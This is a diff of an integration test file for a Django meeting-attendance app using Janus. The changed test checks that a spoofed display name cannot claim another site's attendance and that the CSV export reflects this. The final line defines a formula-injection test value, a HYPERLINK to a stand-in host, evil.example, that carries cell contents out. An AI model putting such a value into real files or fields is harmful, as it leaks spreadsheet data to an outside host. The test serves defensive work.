@@ -21,8 +21,9 @@ from join.selectors import attendance_report
 from meetings.backends.base import Participant
 from meetings.backends.fake import FakeBackend
 from tests.factories.meetings import site
+from tests.services.janus import RawParticipant
 
-from .conftest import HALL, KUMPHAWAPI, MUEANG, JanusPublisher, here, meeting_attended
+from .conftest import HALL, KUMPHAWAPI, MUEANG, here, meeting_attended, pass_of
 
 pytestmark = [pytest.mark.integration, pytest.mark.django_db]
 
@@ -224,20 +225,41 @@ def test_the_periodic_task_polls_meetings_in_their_window_and_closes_what_was_le
     assert all(left is not None for values in rows(meeting).values() for _joined, left in values)
 
 
-def test_attendance_from_a_real_janus(janus, janus_server, schedule):
-    meeting = schedule(sites=(MUEANG, KUMPHAWAPI))
+def test_on_a_real_janus_a_participant_counts_for_the_pass_that_let_it_in_never_for_the_name_it_shows(
+    login, janus, janus_server, schedule
+):
+    meeting = schedule(sites=(MUEANG, KUMPHAWAPI))  # its passes' tokens were added when its room was made
     room = meeting.room
-    mueang = JanusPublisher(janus, room.number, room.pin, site_marker(site(MUEANG))).join()
+    assert {pass_of(meeting, code).media_token for code in (HALL, MUEANG, KUMPHAWAPI)} <= janus.tokens()
+    mueang_name = site_marker(site(MUEANG))
+    # Kumphawapi's clerk, with Kumphawapi's link, shows Mueang's name; someone holding a token of no pass of this
+    # meeting (another meeting's, say) shows the hall's name.
+    kumphawapi = RawParticipant(janus, room.number, display=mueang_name, pin=room.pin,
+                                token=pass_of(meeting, KUMPHAWAPI).media_token).enter()
+    stranger = RawParticipant(janus, room.number, display=site_marker(site(HALL)), pin=room.pin).enter()
     try:
         result = services.attendance_poll(meeting_id=meeting.pk)
         assert result.ok
-        assert result.joined == [site_marker(site(MUEANG))]
+        # Counted for the pass that let it in; the stranger for nobody (a guest, by the name it showed).
+        assert set(rows(meeting)) == {KUMPHAWAPI, site_marker(site(HALL))}
+        assert Attendance.objects.get(meeting=meeting, site__isnull=False).display == mueang_name
+        board = login(Staff.Role.SCHEDULER, HALL).get(reverse("join:control")).content.decode()
+        unknown = board.split("ไม่ทราบว่ามาจากสถานที่ใด", 1)[1].split("</p>", 1)[0]  # the control centre says so
+        assert site_marker(site(HALL)) in unknown
     finally:
-        mueang.leave()
+        kumphawapi.leave()
+        stranger.leave()
     result = services.attendance_poll(meeting_id=meeting.pk)
-    assert result.left == [site_marker(site(MUEANG))]
-    [(joined, left)] = rows(meeting)[MUEANG]
+    assert set(result.left) == {mueang_name, site_marker(site(HALL))}
+    [(joined, left)] = rows(meeting)[KUMPHAWAPI]
     assert left >= joined
+
+    response = login(Staff.Role.SCHEDULER, HALL).get(reverse("join:attendance-csv", kwargs={"pk": meeting.pk}))
+    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    header = next(i for i, row in enumerate(lines) if row[:1] == ["รหัสสถานที่"])
+    by_code = {row[0]: row for row in lines[header + 1:] if row and row[0].isdigit()}
+    assert (by_code[MUEANG][3], by_code[HALL][3]) == ("ไม่มาประชุม", "ไม่มาประชุม")  # the names claimed them
+    assert by_code[KUMPHAWAPI][3].startswith("มาประชุม")
 
 
 HOSTILE_GUEST = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
